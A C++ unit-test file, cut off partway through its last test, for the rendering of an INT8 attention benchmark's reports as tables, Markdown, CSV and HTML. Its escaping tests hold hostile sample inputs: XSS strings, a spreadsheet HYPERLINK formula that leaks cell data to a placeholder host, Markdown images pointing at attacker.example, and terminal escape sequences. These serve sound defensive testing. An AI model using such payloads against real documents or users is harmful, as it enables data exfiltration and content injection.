// Report views: table, markdown, CSV (parsed back), HTML (charts present, strings escaped).
#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <fstream>
#include <sstream>

#include <fmt/format.h>

#include "src/io/diagnostics.h"
#include "src/report/compare.h"
#include "src/report/escape.h"
#include "src/report/render_common.h"
#include "src/report/render.h"
#include "src/report/svg_chart.h"
#include "src/report/text_table.h"
#include "tests/cpu/views_fixture.h"

namespace int8attn {
namespace {

using testing::SweepShape;
using testing::kernel_of;
using testing::make_report;

size_t count(const std::string& text, const std::string& needle) {
  size_t n = 0;
  for (size_t p = text.find(needle); p != std::string::npos; p = text.find(needle, p + needle.size())) ++n;
  return n;
}

// Minimal RFC 4180 reader: quoted fields may hold commas, "" and line breaks.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false, in_quotes = false;
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (in_quotes) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        in_quotes = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      EXPECT_TRUE(field.empty()) << "quote inside an unquoted field";
      in_quotes = quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(field);
      field.clear();
      rows.emplace_back();
      ++i;
    } else {
      field += c;
    }
  }
  EXPECT_FALSE(in_quotes) << "unterminated quote";
  if (!field.empty() || !rows.back().empty()) rows.back().push_back(field);
  if (rows.back().empty()) rows.pop_back();
  (void)quoted;
  return rows;
}

Report hostile_report() {
  Report r = make_report(SweepShape{}, 1);
  r.cases[0].id = "<script>alert('x')</script>";
  auto& k = kernel_of(r, 1, "int8-fa");
  k.status = KernelStatus::Error;
  k.reason = "line one, \"quoted\"\nline two | piped";
  k.latency.reset();
  k.tops.reset();
  auto& fb = kernel_of(r, 2, "int8-fa");
  fb.fallback->decision = Decision::Fp16Fallback;
  fb.fallback->reasons = {"accuracy: max_abs_error 0.07 > 0.05", "<b>bold</b>"};
  r.environment.hostname = "host<img src=x onerror=alert(1)>";
  return r;
}

TEST(RenderTable, OneRowPerKernelWithNumbersAndASummary) {
  const Report r = make_report(SweepShape{}, 1);
  const std::string text = render_report(r, ReportFormat::Table);
  for (const auto& c : r.cases) EXPECT_NE(text.find(c.id), std::string::npos) << c.id;
  EXPECT_EQ(count(text, "int8-qk"), r.cases.size() + 1);  // a row per case and its verdict line
  const auto& k = r.cases[0].kernels[1];
  EXPECT_NE(text.find(fmt::format("{:.4g}", k.latency->median_ms)), std::string::npos);
  EXPECT_NE(text.find(fmt::format("{:.1f}", *k.tops)), std::string::npos);
  EXPECT_NE(text.find("6 cases, 24 kernel runs"), std::string::npos);
  EXPECT_NE(text.find("NVIDIA H100"), std::string::npos);
}

// The "SM MHz" column appears where a kernel read its clock (GPU reports since it was added),
// in the table, Markdown, HTML and CSV views; a report without readings keeps the old columns.
TEST(RenderViews, TheSmClockColumnOnlyWhereTheSamplesReadIt) {
  Report r = make_report(SweepShape{}, 1);
  for (ReportFormat f : {ReportFormat::Table, ReportFormat::Markdown, ReportFormat::Html}) {
    EXPECT_EQ(render_report(r, f).find("SM MHz"), std::string::npos) << static_cast<int>(f);
  }
  r.cases[0].kernels[1].latency->sm_clock = SmClockStats{1754.6, 1700, 3};
  for (ReportFormat f : {ReportFormat::Table, ReportFormat::Markdown, ReportFormat::Html}) {
    const std::string text = render_report(r, f);
    EXPECT_NE(text.find("SM MHz"), std::string::npos) << static_cast<int>(f);
    EXPECT_NE(text.find("1755"), std::string::npos) << static_cast<int>(f);
  }
  // The HTML view also charts the clocks, where a report has them.
  EXPECT_EQ(render_report(make_report(SweepShape{}, 1), ReportFormat::Html).find("id=\"chart-sm-clock-"),
            std::string::npos);
  EXPECT_NE(render_report(r, ReportFormat::Html).find("id=\"chart-sm-clock-0\""), std::string::npos);
  const auto rows = parse_csv(render_report(r, ReportFormat::Csv));
  EXPECT_EQ(rows[0].back(), "sm_clock_mhz");
  EXPECT_EQ(rows[1].back(), "");
  EXPECT_EQ(rows[2].back(), "1754.6");
}

TEST(RenderTable, HeadlineOfAMergedReportSaysWhyItIsIncompleteAndCountsEnvironments) {
  Report r = make_report(SweepShape{}, 1);
  r.complete = false;
  EXPECT_NE(render_report(r, ReportFormat::Table).find("INCOMPLETE: interrupted sweep"), std::string::npos);
  Environment other = r.environment;
  other.gpu_name = "NVIDIA H200";
  r.environments = {r.environment, other};
  r.parts.resize(2);
  const std::string text = render_report(r, ReportFormat::Table);
  EXPECT_NE(text.find("and 1 more environment"), std::string::npos) << text.substr(0, 200);
  EXPECT_NE(text.find("a part was interrupted or a shard is missing"), std::string::npos) << text.substr(0, 200);
}

// A report from two GPUs (--devices, or a merge): every view names both, and each case's
// row names the device that ran it, not the first one.
TEST(RenderViews, EveryEnvironmentAndTheDeviceOfEachCase) {
  Report r = make_report(SweepShape{}, 1);
  Environment first = r.environment, second = r.environment;
  first.device = 0;
  second.gpu_name = "NVIDIA H200";
  second.device = 1;
  r.environment = first;
  r.environments = {first, second};
  r.cases.back().environment = second;
  const std::string last_id = r.cases.back().id;

  const std::string text = render_report(r, ReportFormat::Table);
  EXPECT_NE(text.find(last_id + "  (" + view::shape_label(r.cases.back()) + ") on NVIDIA H200 #1"), std::string::npos)
      << text;
  EXPECT_NE(text.find(r.cases.front().id + "  (" + view::shape_label(r.cases.front()) + ") on " +
                      view::device_label(first)),
            std::string::npos);

  const std::string md = render_report(r, ReportFormat::Markdown);
  EXPECT_NE(md.find("**Environment 1 of 2**"), std::string::npos) << md.substr(0, 600);
  EXPECT_NE(md.find("**Environment 2 of 2**"), std::string::npos);
  EXPECT_NE(md.find("NVIDIA H200"), std::string::npos);

  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_NE(html.find("environment 2 of 2"), std::string::npos);
  EXPECT_NE(html.find("NVIDIA H200 #1"), std::string::npos);

  const std::string csv = render_report(r, ReportFormat::Csv);
  size_t h200_rows = 0, h100_rows = 0;
  std::istringstream lines(csv);
  for (std::string line; std::getline(lines, line);) {
    if (line.find(last_id) != std::string::npos) {
      EXPECT_NE(line.find("NVIDIA H200 #1"), std::string::npos) << line;
      ++h200_rows;
    } else if (line.find(view::device_label(first)) != std::string::npos) {
      ++h100_rows;
    }
  }
  EXPECT_EQ(h200_rows, r.cases.back().kernels.size());
  EXPECT_EQ(h100_rows, (r.cases.size() - 1) * r.cases.front().kernels.size());
}

TEST(RenderTable, ColumnsAreAligned) {
  TextTable t({{"name"}, {"value", Align::Right}});
  t.add_row({"a", "1.5"});
  t.add_row({"longer-name", "12345"});
  const std::string text = t.to_text();
  EXPECT_EQ(text,
            "name         value\n"
            "-----------  -----\n"
            "a              1.5\n"
            "longer-name  12345\n");
}

TEST(RenderTable, SectionsShareColumnWidths) {
  TextTable t({{"k"}, {"ms", Align::Right}});
  t.add_section("case A");
  t.add_row({"x", "1"});
  t.add_section("case B");
  t.add_row({"longer", "1234.5"});
  EXPECT_EQ(t.to_text(2),
            "case A\n"
            "  k           ms\n"
            "  ------  ------\n"
            "  x            1\n"
            "\n"
            "case B\n"
            "  k           ms\n"
            "  ------  ------\n"
            "  longer  1234.5\n");
}

TEST(RenderMarkdown, TableRowsHaveTheHeaderCellCount) {
  const Report r = hostile_report();
  const std::string md = render_report(r, ReportFormat::Markdown);
  std::vector<std::string> table;
  size_t start = 0;
  for (size_t end; (end = md.find('\n', start)) != std::string::npos; start = end + 1) {
    const std::string line = md.substr(start, end - start);
    if (!line.empty() && line[0] == '|') table.push_back(line);
  }
  ASSERT_EQ(table.size(), 2 + r.cases.size() * 4);  // header, separator, rows
  auto cells = [](const std::string& line) {
    size_t n = 0;
    for (size_t i = 0; i < line.size(); ++i) n += line[i] == '|' && (i == 0 || line[i - 1] != '\\');
    return n - 1;
  };
  for (const auto& line : table) {
    EXPECT_EQ(cells(line), cells(table[0])) << line;
    EXPECT_EQ(line.back(), '|') << line;
  }
  EXPECT_EQ(table[1].find_first_not_of("|-: "), std::string::npos);
  EXPECT_NE(md.find("line two \\| piped"), std::string::npos);
}

TEST(RenderCsv, ParsesBackToOneRowPerKernelAndEveryColumn) {
  const Report r = hostile_report();
  const auto rows = parse_csv(render_report(r, ReportFormat::Csv));
  ASSERT_EQ(rows.size(), 1 + r.cases.size() * 4);
  EXPECT_EQ(rows[0], csv_columns());
  for (const auto& row : rows) EXPECT_EQ(row.size(), csv_columns().size());
  auto col = [&](const char* name) {
    return static_cast<size_t>(std::find(rows[0].begin(), rows[0].end(), name) - rows[0].begin());
  };
  // Row order follows cases then kernels; row 1 + 4*1 + 1 is case 1's int8-fa (the error).
  const auto& error_row = rows[1 + 4 * 1 + 1];
  EXPECT_EQ(error_row[col("status")], "error");
  EXPECT_EQ(error_row[col("reason")], "line one, \"quoted\"\nline two | piped");
  EXPECT_EQ(error_row[col("median_ms")], "");
  const auto& ok_row = rows[1 + 2];
  const auto& k = r.cases[0].kernels[2];
  EXPECT_DOUBLE_EQ(std::stod(ok_row[col("median_ms")]), k.latency->median_ms);  // round trip exact
  EXPECT_DOUBLE_EQ(std::stod(ok_row[col("rel_l2")]), k.accuracy->rel_l2);
  EXPECT_EQ(ok_row[col("samples")], std::to_string(k.latency->samples));
  EXPECT_EQ(rows[1 + 4 * 2 + 1][col("decision")], "fp16-fallback");
}

TEST(RenderHtml, HasEveryChartAndEscapesStrings) {
  const Report r = hostile_report();
  const std::string html = render_report(r, ReportFormat::Html);
  // Two shape groups (causal, full) x five line charts and the kept samples, plus one decision
  // grid per INT8 kernel.
  EXPECT_EQ(count(html, "<svg "), 2u * 6u + 2u);
  for (const char* id : {"chart-latency-0", "chart-tops-1", "chart-speedup-0", "chart-rel-l2-1", "chart-max-abs-0",
                         "chart-samples-1", "fallback-int8-fa", "fallback-int8-qk", "results-table", "environment"}) {
    EXPECT_NE(html.find(std::string("id=\"") + id + "\""), std::string::npos) << id;
  }
  EXPECT_EQ(html.find("<script>alert"), std::string::npos);
  EXPECT_EQ(html.find("<img"), std::string::npos);
  EXPECT_EQ(html.find("<b>bold"), std::string::npos);
  EXPECT_NE(html.find("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"), std::string::npos);
  // Self-contained: no external resources.
  for (const char* external : {"<link", "src=\"http", "@import", "url(http"}) {
    EXPECT_EQ(html.find(external), std::string::npos) << external;
  }
  EXPECT_EQ(count(html, "<script>"), 1u);  // only our sort script
  EXPECT_EQ(count(html, "<tr><td"), r.cases.size() * 4);
}

TEST(RenderHtml, SpeedupChartUsesTheFp16Kernel) {
  Report r = make_report(SweepShape{}, 1);
  r.cases.resize(1);
  const auto& int8 = kernel_of(r, 0, "int8-fa");
  const auto& fp16 = kernel_of(r, 0, "fp16-fa");
  const double speedup = fp16.latency->median_ms / int8.latency->median_ms;
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_NE(html.find(fmt::format("int8-fa {}: {:.4g} x", r.cases[0].id, speedup)), std::string::npos);
}

TEST(RenderHtml, SpeedupsAreAgainstEachCasesBaseline) {
  Report r = make_report(SweepShape{}, 1);
  r.cases.resize(3);  // one group, three sequence lengths
  auto& skipped = kernel_of(r, 2, "fp16-fa");
  skipped.status = KernelStatus::Skipped;
  skipped.latency.reset();
  // Case 0 recorded its baseline (a GPU sweep): the stored speedup is what is drawn.
  r.cases[0].baseline = Baseline{"fastest-fp16", "fp16-fa", kernel_of(r, 0, "fp16-fa").latency->median_ms, ""};
  kernel_of(r, 0, "int8-fa").speedup = 1.25;
  // Case 2 has no FP16 latency: no point at all (the reference never stands in).
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_NE(html.find("Speedup vs the fastest FP16 kernel of each case"), std::string::npos);
  EXPECT_NE(html.find(fmt::format("int8-fa {}: 1.25 x", r.cases[0].id)), std::string::npos);
  EXPECT_EQ(html.find(fmt::format("int8-fa {}: ", r.cases[2].id) + "1"), std::string::npos);
  EXPECT_EQ(html.find("vs the reference"), std::string::npos);
}

TEST(RenderTable, ShowsTheBaselineSpeedupsAndTheFp8Verdict) {
  Report r = make_report(SweepShape{}, 1);
  r.cases.resize(1);
  CaseResult& c = r.cases[0];
  c.baseline = Baseline{"fastest-fp16", "fp16-cudnn", 0.87, ""};
  KernelResult fp8 = status_result("fp8-cudnn", KernelStatus::Ok, "");
  fp8.latency = LatencyStats{};
  fp8.latency->median_ms = 0.5;
  fp8.speedup = 0.87 / 0.5;
  fp8.fp8_verdict = Fp8Verdict{Fp8Decision::Fp8, {}};  // status ok: it ran
  c.kernels.push_back(fp8);
  summarize(r);
  const std::string text = render_report(r, ReportFormat::Table);
  EXPECT_NE(text.find("baseline fp16-cudnn 0.87 ms (fastest-fp16)"), std::string::npos) << text;
  EXPECT_NE(text.find("1.74x"), std::string::npos) << text;
  EXPECT_NE(text.find("FP8: faster than the baseline and within the accuracy thresholds in 1 of 1 results"),
            std::string::npos)
      << text;
  const std::string md = render_report(r, ReportFormat::Markdown);
  EXPECT_NE(md.find("**FP8:**"), std::string::npos);
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_NE(html.find("FP8 verdict: fp8-cudnn"), std::string::npos);
}

// The table views name an INT8 kernel's blocks when they are not 64 keys with V per channel
// ("auto" on Hopper), beside its decision's reasons.
TEST(RenderTable, NotesInt8BlocksOtherThanTheClassicPair) {
  Report r = make_report(SweepShape{}, 1);
  r.cases.resize(2);
  kernel_of(r, 0, "int8-fa").quantization = KernelQuantization{128, 128};
  kernel_of(r, 1, "int8-fa").quantization = KernelQuantization{kGpuKvBlock, 0};
  summarize(r);
  const std::string text = render_report(r, ReportFormat::Table);
  const size_t first = text.find(r.cases[0].id), second = text.find(r.cases[1].id);
  ASSERT_NE(second, std::string::npos);
  EXPECT_NE(text.substr(first, second - first).find("kv_block 128, v_block 128"), std::string::npos) << text;
  EXPECT_EQ(text.substr(second).find("kv_block"), std::string::npos) << text;
  EXPECT_NE(render_report(r, ReportFormat::Markdown).find("kv_block 128, v_block 128"), std::string::npos);
}

// Per-thread K is said too, even with the classic pair (another option than the default).
TEST(RenderTable, NotesPerThreadK) {
  Report r = make_report(SweepShape{}, 1);
  kernel_of(r, 0, "int8-fa").quantization = KernelQuantization{kGpuKvBlock, 0, true};
  summarize(r);
  EXPECT_NE(render_report(r, ReportFormat::Table).find("kv_block 64, v_block 0, K per thread"), std::string::npos);
}

TEST(RenderHtml, TheVerdictComesFirstThenTheGridThenTheCharts) {
  const Report r = make_report(SweepShape{}, 1);
  const std::string html = render_report(r, ReportFormat::Html);
  const size_t verdict = html.find("id=\"verdict\""), grid = html.find("id=\"fallback\""),
               charts = html.find("id=\"charts\""), results = html.find("id=\"results\"");
  ASSERT_NE(verdict, std::string::npos);
  EXPECT_LT(verdict, grid);
  EXPECT_LT(grid, charts);
  EXPECT_LT(charts, results);
  // One line per INT8 kernel, not one pooled headline.
  EXPECT_NE(html.find("<li>int8-fa: "), std::string::npos);
  EXPECT_NE(html.find("<li>int8-qk: "), std::string::npos);
}

TEST(RenderHtml, AccuracyChartsDrawTheThresholds) {
  Report r = make_report(SweepShape{}, 1);
  r.config.settings = {{"thresholds", {{"max_abs_error", 0.05}, {"max_rel_l2", 0.02}, {"max_mse", 1e-4}}}};
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_EQ(count(html, "max_abs_error limit 0.05"), 2u);  // one max-abs chart per group
  EXPECT_EQ(count(html, "max_rel_l2 0.02"), 2u);
  r.config.settings["thresholds"]["max_rel_l2"] = nullptr;  // not checked: no line
  EXPECT_EQ(count(render_report(r, ReportFormat::Html), "max_rel_l2 "), 0u);
}

TEST(RenderHtml, ACpuReportDrawsNoLatencyCharts) {
  Report r = make_report(SweepShape{}, 1);
  r.environment.backend = "cpu";
  for (auto& c : r.cases) {
    for (auto& k : c.kernels) k.latency.reset(), k.tops.reset(), k.speedup.reset();
  }
  const std::string html = render_report(r, ReportFormat::Html);
  for (const char* kind : {"latency", "tops", "speedup", "samples", "sm-clock"}) {
    EXPECT_EQ(html.find(fmt::format("id=\"chart-{}-", kind)), std::string::npos) << kind;
  }
  EXPECT_EQ(count(html, "id=\"chart-rel-l2-"), 2u);
  EXPECT_EQ(count(html, "id=\"chart-max-abs-"), 2u);
  EXPECT_EQ(html.find("no data"), std::string::npos);
  EXPECT_NE(html.find("no latencies (accuracy only)"), std::string::npos);
}

TEST(RenderViews, SkippedKernelsAreSkippedNeverFp16Fallback) {
  Report r = make_report(SweepShape{}, 1);
  r.cases.resize(1);
  KernelResult& k = kernel_of(r, 0, "int8-fa");
  k = status_result("int8-fa", KernelStatus::Skipped, "shape: head_dim 96 not supported");
  k.fallback = FallbackDecision{Decision::Fp16Fallback, {"shape: head_dim 96 not supported"}};
  for (ReportFormat f : {ReportFormat::Table, ReportFormat::Markdown, ReportFormat::Csv}) {
    const std::string text = render_report(r, f);
    EXPECT_NE(text.find("skipped"), std::string::npos) << to_string(f);
    EXPECT_EQ(text.find("fp16-fallback"), std::string::npos) << to_string(f) << "\n" << text;
  }
  // HTML: the results row and the grid cell (the grid's legend names every category).
  const std::string html = render_report(r, ReportFormat::Html);
  const size_t row = html.find("<td>int8-fa</td>");
  ASSERT_NE(row, std::string::npos);
  const std::string cells = html.substr(row, html.find("</tr>", row) - row);
  EXPECT_NE(cells.find(">skipped<"), std::string::npos) << cells;
  EXPECT_EQ(cells.find("fp16-fallback"), std::string::npos) << cells;
  EXPECT_NE(html.find("class=\"cell-label\">skipped<"), std::string::npos);
  const auto rows = parse_csv(render_report(r, ReportFormat::Csv));
  const size_t decision = static_cast<size_t>(std::find(rows[0].begin(), rows[0].end(), "decision") - rows[0].begin());
  EXPECT_EQ(rows[2][decision], "skipped");
}

TEST(RenderViews, VerdictLinesSayWhereInt8HoldsAndHowFast) {
  Report r = make_report(SweepShape{}, 1);  // seq 1K, 4K, 16K; full and causal
  for (auto& c : r.cases) {
    for (auto& k : c.kernels) {
      if (k.kernel != "int8-fa") continue;
      const bool short_seq = c.dims.seq_kv < 4096;
      k.fallback = short_seq ? FallbackDecision{Decision::Fp16Fallback, {"speed: slower than fp16-fa"}}
                             : FallbackDecision{Decision::Int8, {}};
      k.speedup = short_seq ? 0.9 : 1.25;
    }
  }
  const std::vector<std::string> lines = view::verdict_lines(r);
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0].rfind("int8-fa: INT8 from 4K tokens (FP16 fallback below: speed in 2), 0.90–1.25× the speed of ", 0),
            0u) << lines[0];
  EXPECT_NE(lines[0].find("worst rel L2 "), std::string::npos);
  EXPECT_EQ(lines[1].rfind("int8-qk: ", 0), 0u);
}

// int8-hadamard keeps INT8, and the line says where only the rotation did; the rotated try's
// own reasons are not counted as another cause of a fallback.
// A NaN rel L2 is the worst, as the summary line says: not a 0 or the largest finite value.
TEST(RenderViews, VerdictLinesCallANaNErrorTheWorst) {
  Report r = make_report(SweepShape{}, 1);
  kernel_of(r, 1, "int8-fa").accuracy->rel_l2 = std::nan("");
  const std::vector<std::string> lines = view::verdict_lines(r);
  ASSERT_FALSE(lines.empty());
  EXPECT_NE(lines[0].find("worst rel L2 nan"), std::string::npos) << lines[0];
  for (auto& c : r.cases) kernel_of(r, static_cast<size_t>(&c - r.cases.data()), "int8-fa").accuracy->rel_l2 = std::nan("");
  EXPECT_NE(view::verdict_lines(r)[0].find("worst rel L2 nan"), std::string::npos) << view::verdict_lines(r)[0];
}

TEST(RenderViews, VerdictLinesCountInt8HadamardAsKept) {
  Report r = make_report(SweepShape{}, 1);
  for (auto& c : r.cases) {
    for (auto& k : c.kernels) {
      if (k.kernel != "int8-fa") continue;
      if (c.dims.seq_kv == 1024) {
        const std::string rotated = rotated_reason_prefix(QkRotation::Hadamard) + "accuracy: rel_l2 0.03";
        k.fallback = FallbackDecision{Decision::Fp16Fallback, {"accuracy: rel_l2 0.04", rotated}, RotatedAttempt{}};
      } else if (c.dims.seq_kv == 4096) {
        k.fallback = FallbackDecision{Decision::Int8Hadamard, {"accuracy: rel_l2 0.03"}, RotatedAttempt{}};
      }
    }
  }
  const std::string line = view::verdict_lines(r).at(0);
  const std::string want =
      "int8-fa: INT8 from 4K tokens (FP16 fallback below: accuracy in 2); with the Hadamard rotation in 2, ";
  EXPECT_EQ(line.rfind(want, 0), 0u) << line;
}

TEST(RenderCsv, CarriesTheInputParametersAndProvenance) {
  Report r = make_report(SweepShape{}, 1);
  r.cases.resize(1);
  r.cases[0].input.distribution = Distribution::OutlierChannels;
  r.cases[0].input.outlier_magnitude = 20;
  r.cases[0].input.outlier_channels = 4;
  r.tool.git_commit = "09e2d1c7390a";
  r.environment.gpu_name = "NVIDIA H200";
  const auto rows = parse_csv(render_report(r, ReportFormat::Csv));
  auto cell = [&](const char* name) {
    return rows[1][static_cast<size_t>(std::find(rows[0].begin(), rows[0].end(), name) - rows[0].begin())];
  };
  EXPECT_EQ(cell("magnitude"), "20");
  EXPECT_EQ(cell("channels"), "4");
  EXPECT_EQ(cell("q_magnitude"), "");  // outlier-scale only
  EXPECT_EQ(cell("git_commit"), "09e2d1c7390a");
  EXPECT_EQ(cell("device"), "NVIDIA H200");
  EXPECT_EQ(cell("rotation"), "none");
}

// docs/report-schema.md's CSV table lists exactly the exported columns, in order.
TEST(RenderCsv, ColumnsAreTheDocumentedOnes) {
  std::ifstream doc(std::string(INT8ATTN_SOURCE_DIR) + "/docs/report-schema.md");
  ASSERT_TRUE(doc.good());
  std::vector<std::string> documented;
  bool in_section = false;
  for (std::string line; std::getline(doc, line);) {
    if (line.rfind("## ", 0) == 0) in_section = line.find("The CSV export") != std::string::npos;
    if (!in_section || line.rfind("| `", 0) != 0) continue;
    documented.push_back(line.substr(3, line.find('`', 3) - 3));
  }
  EXPECT_EQ(documented, csv_columns());
}

TEST(SvgChart, EmptyChartSaysSo) {
  view::LineChart chart{"c", "t", "x", "y", false, {}, {}, {}};
  EXPECT_NE(view::svg_line_chart(chart).find("no data"), std::string::npos);
  EXPECT_EQ(view::seq_label(32768), "32K");
  EXPECT_EQ(view::seq_label(77), "77");
}

TEST(Escape, XmlAndCsv) {
  EXPECT_EQ(xml_escape("a<b>&\"'"), "a&lt;b&gt;&amp;&quot;&#39;");
  EXPECT_EQ(csv_field("plain"), "plain");
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_line({"a,b", "", "=1+1"}), "\"a,b\",,'=1+1\r\n");
  EXPECT_EQ(csv_line({}), "\r\n");
  EXPECT_EQ(parse_report_format("html"), ReportFormat::Html);
  EXPECT_FALSE(parse_report_format("pdf").has_value());
}

// A report's strings are data: a spreadsheet must not run them, XML must stay well formed, a
// PR comment must not take them for markup, a terminal must not act on them.
TEST(Escape, ReportTextNeverBecomesFormulaMarkupOrTerminalControl) {
  EXPECT_EQ(csv_field("=HYPERLINK(\"http://x/?\"&A1,\"c\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"c\"\")\"");
  EXPECT_EQ(csv_field("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(csv_field("-0.5"), "-0.5");  // numbers stay numbers
  EXPECT_EQ(csv_field("+1e-3"), "+1e-3");
  EXPECT_EQ(csv_field("-"), "-");
  EXPECT_EQ(csv_field("a\x1b[2Jb"), "a\xEF\xBF\xBD[2Jb");
  EXPECT_EQ(xml_escape("bad\xff.json"), "bad\xEF\xBF\xBD.json");
  EXPECT_EQ(xml_escape("caf\xC3\xA9"), "caf\xC3\xA9");
  EXPECT_EQ(xml_escape("a\xE2\x80\xAE" "b"), "a\xEF\xBF\xBD" "b");  // U+202E would show the id reversed
  EXPECT_EQ(terminal_safe("a\xE2\x81\xA6" "b\xE2\x80\x94"), "a\xEF\xBF\xBD" "b\xE2\x80\x94");  // an em dash stays
  EXPECT_EQ(markdown_cell("evil\\|</details><img src=x>&"), "evil\\\\\\|&lt;/details&gt;&lt;img src=x&gt;&amp;");
  TextTable table({{"case", Align::Left}});
  table.add_row({"a\x1b]0;title\x07" "b\xC2\x9B" "2Jc\nd"});  // ESC, BEL, 8-bit CSI, a newline
  const std::string text = table.to_text();
  EXPECT_EQ(text.find('\x1b'), std::string::npos) << text;
  EXPECT_EQ(text.find('\x07'), std::string::npos) << text;
  EXPECT_EQ(text.find("\xC2\x9B"), std::string::npos) << text;
  EXPECT_NE(text.find("c d"), std::string::npos) << text;
}

// Every line of the table view is for a terminal, not only the table's cells: the headline
// (tool, GPU, config path), the summary's worst case and the verdict lines. And a markdown
// view shows a report's strings as text: no heading, link, image, code or emphasis.
TEST(Escape, EveryLineOfTheTableAndMarkdownViewsIsText) {
  Report r = make_report(SweepShape{}, 1);
  r.config.path = "cfg\x1b]0;PWNED\x07\x1b[2J.json";
  r.environment.gpu_name = "GPU\r\x1b[41m";
  for (CaseResult& c : r.cases) c.id += "\x1b[41m\r";
  kernel_of(r, 0, "int8-fa").fallback->reasons = {"speed: \x1b[2J slower"};
  const std::string table = render_report(r, ReportFormat::Table);
  EXPECT_EQ(table.find_first_of("\x1b\r\x07"), std::string::npos) << table.substr(0, 300);
  const std::string compare = render_compare(compare_reports(r, r, CompareOptions{}), CompareFormat::Table);
  EXPECT_EQ(compare.find_first_of("\x1b\r\x07"), std::string::npos) << compare.substr(0, 300);

  Report md = make_report(SweepShape{}, 1);
  md.tool.name = "# ALL INT8 CHECKS PASSED";
  md.cases[0].id = "![x](https://attacker.example/t.png)";
  md.cases[1].id = "[notes](https://attacker.example/) **bold** `code` _em_ ~~gone~~";
  const std::string markdown = render_report(md, ReportFormat::Markdown);
  EXPECT_NE(markdown.find("\\# ALL INT8"), std::string::npos);
  EXPECT_NE(markdown.find("!\\[x\\](https://attacker.example/t.png)"), std::string::npos);
  for (const char* markup : {"[notes](", "**bold**", "`code`", " _em_", "~~gone~~", "\n# "}) {
    EXPECT_EQ(markdown.find(markup), std::string::npos) << markup;
  }
  EXPECT_EQ(markdown_cell("kv_block 128"), "kv_block 128");  // an underscore inside a word is text
}

// A sweep of thousands of shapes still makes a page a browser opens: charts and decision grids
// for the first groups only, saying so, and every case in the table.
TEST(RenderHtml, LargeSweepsGetBoundedChartsAndEveryCaseInTheTable) {
  const Report one = make_report(SweepShape{}, 1);
  Report r = one;
  r.cases.clear();
  for (int64_t heads = 1; heads <= 400; ++heads) {  // 400 shape groups of 2 sequence lengths
    for (size_t i = 0; i < 2; ++i) {
      CaseResult c = one.cases[i];
      c.dims.heads = c.dims.kv_heads = heads;
      c.id = make_case_id(c.dims, c.input);
      r.cases.push_back(std::move(c));
    }
  }
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_NE(html.find("id=\"chart-latency-47\""), std::string::npos) << "charts of the first 48 groups";
  EXPECT_EQ(html.find("id=\"chart-latency-48\""), std::string::npos);
  EXPECT_EQ(html.find("id=\"chart-samples-48\""), std::string::npos);
  EXPECT_NE(html.find("Charts for the first 48 of 400 shape groups"), std::string::npos);
  EXPECT_NE(html.find("Decision grids for the first 300 of 400 shape groups"), std::string::npos);
  EXPECT_EQ(count(html, "<g class=\"cell\">"), 2u * 300u * 2u) << "two INT8 grids, 300 rows of 2 cells";
  EXPECT_EQ(count(html, "<tr><td"), r.cases.size() * 4);
  EXPECT_LT(html.size(), 3u << 20);
}

// Extreme values a report may hold still give finite coordinates: no "nan" or "inf" in a chart.
TEST(RenderHtml, ExtremeButLegalValuesKeepTheChartsFinite) {
  for (double value : {1e308, 5e-324}) {
    Report r = make_report(SweepShape{}, 1);
    for (CaseResult& c : r.cases) {
      for (KernelResult& k : c.kernels) {
        if (!k.latency) continue;
        LatencyStats& l = *k.latency;
        l.median_ms = l.mean_ms = l.min_ms = l.max_ms = l.p10_ms = l.p90_ms = value;
        l.raw_ms.assign(l.raw_ms.size(), value);
        k.tops = value;
      }
    }
    const std::string html = render_report(r, ReportFormat::Html);
    for (const char* bad : {"\"nan", "\"-nan", "\"inf", "\"-inf", ",nan", ",-nan", "nan,"}) {
      EXPECT_EQ(html.find(bad), std::string::npos) << value << ": " << bad;
    }
    std::istringstream table(render_report(r, ReportFormat::Table));
    for (std::string line; std::getline(table, line);) EXPECT_LT(line.size(), 300u) << line.substr(0, 80);
  }
}

TEST(RenderHtml, KernelsOfSimilarNamesGetDistinctIds) {
  Report r = make_report(SweepShape{}, 1);
  for (CaseResult& c : r.cases) {
    for (const char* name : {"int8.fa", "int8 fa"}) {
      KernelResult k = kernel_of(r, 0, "int8-fa");
      k.kernel = name;
      c.kernels.push_back(k);
    }
  }
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_EQ(count(html, "id=\"fallback-int8-fa\""), 1u);
  EXPECT_EQ(count(html, "id=\"fallback-int8_2efa\""), 1u);
  EXPECT_EQ(count(html, "id=\"fallback-int8_20fa\""), 1u);
}

TEST(RenderHtml, RotatedCasesAreTheirOwnCurve) {
  Report r = make_report(SweepShape{}, 1);
  r.cases.resize(3);
  for (CaseResult c : std::vector<CaseResult>(r.cases)) {
    c.rotation = QkRotation::Hadamard;
    c.id = make_case_id(c.dims, c.input, c.rotation);
    r.cases.push_back(c);
  }
  const std::string html = render_report(r, ReportFormat::Html);
  EXPECT_NE(html.find("chart-latency-1"), std::string::npos);  // two groups of three lengths, not one zigzag
  EXPECT_EQ(html.find("chart-latency-2"), std::string::npos);
  EXPECT_NE(html.find("d128 full normal hadamard"), std::string::npos);
}

TEST(RenderHtml, BatchFollowingSeqLenStaysOneCurve) {
  Report r = make_report(SweepShape{}, 1);
